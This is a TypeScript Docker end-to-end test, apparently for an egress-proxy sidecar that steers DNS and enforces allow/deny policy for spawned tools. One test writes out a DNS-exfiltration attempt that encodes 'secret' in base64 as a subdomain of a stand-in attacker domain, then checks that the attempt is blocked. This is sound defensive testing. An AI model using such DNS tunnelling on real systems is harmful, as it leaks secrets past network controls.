import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { docker, type Outcome, repository, tryDocker, until } from './docker.js';
import { ARE_PREBUILT } from './images.js';

/**
 * Steering with a DNS server of our own behind the sidecar, which sees every question that leaves: a Java client, names
 * that carry a secret, and a spawned tool that nobody gave a DNS server, reached by aliases of the sidecar.
 */
const NAME = 'egress-steer';
const TOOLS = `${NAME}-tools`;
const INTERNET = `${NAME}-internet`;
const SIDECAR = `${NAME}-sidecar`;
const DNS = `${NAME}-dns`;
const SITE_ADDRESS = '45.45.46.45';
const PROXY_IMAGE = `${NAME}-proxy`;
const CLIENT_IMAGE = `${NAME}-client`;
const FOLDER = `${repository}test/e2e/docker/steer-client`;
const STEERED = ['--dns', '172.31.249.250'];
const HARDENED = ['--read-only', '--cap-drop', 'ALL', '--security-opt', 'no-new-privileges'];

before(async () => {
  const build = ['build', '--quiet', '--network', process.env.EGRESS_BUILD_NETWORK ?? 'host'];
  if (!ARE_PREBUILT) {
    await docker([...build, '-t', PROXY_IMAGE, '-f', 'docker/Dockerfile', '.']);
    await docker([...build, '-t', 'mcp-egress-demo', 'docker/demo']);
    await docker([...build, '-t', CLIENT_IMAGE, FOLDER]);
  }
  await removeAll();
  const inhibit = ['-o', 'com.docker.network.bridge.inhibit_ipv4=true'];
  await docker([
    'network',
    'create',
    '--internal',
    '--subnet',
    '172.31.249.0/24',
    '--ip-range',
    '172.31.249.0/25',
    ...inhibit,
    TOOLS,
  ]);
  await docker(['network', 'create', '--internal', '--subnet', '45.45.46.0/24', INTERNET]);
  const run = ['run', '--detach', '--network', INTERNET];
  await docker([...run, '--name', `${NAME}-site`, '--ip', SITE_ADDRESS, 'mcp-egress-demo', 'node', 'site.mjs']);
  await docker([...run, '--name', DNS, '--ip', '45.45.46.53', CLIENT_IMAGE, 'node', 'dns.mjs', SITE_ADDRESS]);
  await until('the DNS server is up', async () => (await docker(['logs', DNS])).includes('ready'));
  await docker([
    ...['create', '--name', SIDECAR, ...HARDENED, '--network', INTERNET],
    ...[
      '--volume',
      `${FOLDER}:/etc/egress-proxy:ro`,
      '--env',
      'EGRESS_CONFIG=/etc/egress-proxy/policy.yaml',
      PROXY_IMAGE,
    ],
  ]);
  await docker(['network', 'connect', '--ip', '172.31.249.250', '--alias', 'alias.demo.test', TOOLS, SIDECAR]);
  await docker(['start', SIDECAR]);
  await until('the sidecar is healthy', async () => (await health()) === 'healthy');
});

after(removeAll);

test('Java HttpClient without a proxy variable reaches the public site by http and https, and trusts only its own CA', async () => {
  const java = ['java', '-Djavax.net.ssl.trustStore=trust.p12', '-Djavax.net.ssl.trustStorePassword=changeit', 'Get'];
  for (const scheme of ['http', 'https']) {
    const { stdout, stderr } = await tool(STEERED, [...java, `${scheme}://site.demo.test/`]);
    assert.equal(stdout, `200 public site, over ${scheme}, asked for site.demo.test\n`, stderr);
  }
  const untrusting = await tool(STEERED, ['java', 'Get', 'https://site.demo.test/']);
  assert.match(untrusting.stderr, /PKIX path building failed/);
  const doors = (await decisions()).map(({ door, outcome, host }) => `${door} ${outcome} ${host}`);
  assert.deepEqual(new Set(doors), new Set(['steer-http allow site.demo.test', 'steer-tls allow site.demo.test']));
});

test('a name that the policy denies does not exist for a tool, and one record says why', async () => {
  const { code, stderr } = await tool(STEERED, ['curl', '-sS', 'http://denied.demo.test/']);
  assert.match(stderr, /Could not resolve host/);
  assert.equal(code, 6);
  const [record, ...others] = (await decisions()).filter(({ host }) => host === 'denied.demo.test');
  assert.deepEqual(
    [record?.door, record?.reason, record?.rule, others.length],
    ['steer-dns', 'host-denied', 'deny[0]', 0],
  );
});

test('a secret in a name of any type reaches no DNS server', async () => {
  const ask = (type: string) =>
    `require('node:dns').promises.resolve('c2VjcmV0.attacker.test', '${type}').then(String, (e) => e.code).then(console.log)`;
  for (const type of ['A', 'AAAA', 'TXT', 'MX', 'CNAME', 'NS', 'SRV', 'ANY', 'CAA'])
    await tool(STEERED, ['node', '-e', ask(type)]);
  assert.doesNotMatch(await docker(['logs', DNS]), /attacker/);
});

test('a tool that got no DNS server reaches the names that the sidecar has as aliases', async () => {
  const { stdout, stderr } = await tool([], ['curl', '-sS', '--cacert', 'ca.pem', 'https://alias.demo.test/']);
  assert.equal(stdout, 'public site, over https, asked for alias.demo.test\n', stderr);
  assert.notEqual((await tool([], ['curl', '-sS', '--max-time', '5', 'https://site.demo.test/'])).code, 0);
});

/** A container as a gateway spawns one, on the tools' network and no other. */
function tool(options: readonly string[], command: readonly string[]): Promise<Outcome> {
  return tryDocker(['run', '--rm', '--network', TOOLS, ...options, CLIENT_IMAGE, ...command]);
}

async function decisions(): Promise<Record<string, unknown>[]> {
  const lines = (await docker(['logs', SIDECAR])).split('\n');
  return lines.filter((line) => line.includes('"event":"decision"')).map((line) => JSON.parse(line));
}

async function health(): Promise<string> {
  return (await docker(['inspect', '-f', '{{.State.Health.Status}}', SIDECAR])).trim();
}

async function removeAll(): Promise<void> {
  await tryDocker(['rm', '--force', '--volumes', SIDECAR, DNS, `${NAME}-site`]);
  await tryDocker(['network', 'rm', TOOLS, INTERNET]);
}
